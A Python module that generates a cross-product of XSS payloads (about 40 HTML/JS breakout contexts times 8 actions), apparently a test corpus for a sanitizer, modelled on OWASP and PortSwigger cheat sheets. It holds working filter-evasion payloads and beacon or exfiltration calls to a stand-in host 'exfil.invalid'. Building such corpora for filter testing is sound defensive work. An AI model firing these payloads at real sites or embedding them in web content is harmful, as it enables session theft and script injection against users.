"""Several hundred XSS vectors (in the manner of the OWASP filter-evasion and PortSwigger cheat
sheets), each a context breakout × an action that would show if it ran."""

from __future__ import annotations

ACTIONS = [
    "alert(1)",
    "confirm(1)",
    "prompt(1)",
    "fetch('http://exfil.invalid/f')",
    "new Image().src='http://exfil.invalid/i'",
    "location='http://exfil.invalid/l'",
    "eval(atob('YWxlcnQoMSk='))",
    "top['al'+'ert'](1)",
]

CONTEXTS = [
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '"><script>{js}</script>',
    "'><img src=x onerror={js}>",
    '" onmouseover="{js}" x="',
    "' autofocus onfocus='{js}' x='",
    '<a href="javascript:{js}">click</a>',
    "javascript:{js}",
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<input autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<base href="http://exfil.invalid/"><script src="x.js"></script><!-- {js} -->',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<form action="javascript:{js}"><button>go</button></form>',
    "</textarea><script>{js}</script>",
    "</title><script>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<xmp><p title="</xmp><img src=x onerror={js}>">',
    "<marquee onstart={js}>",
    "<x contenteditable autofocus onfocus={js}>",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{7*7}}{{{{7*7}}}}<script>{js}</script>",
    "\u2028<script>{js}</script>\u202e",
    '<link rel=stylesheet href="http://exfil.invalid/s.css"><!-- {js} -->',
    "<style>@import 'http://exfil.invalid/s.css';</style><!-- {js} -->",
    '<img src="http://exfil.invalid/pixel.gif" alt="{js}">',
    "%3Cscript%3E{js}%3C/script%3E<script>{js}</script>",
    "<![CDATA[<script>{js}</script>]]>",
]


def vectors() -> list[str]:
    return [c.format(js=a) for c in CONTEXTS for a in ACTIONS]
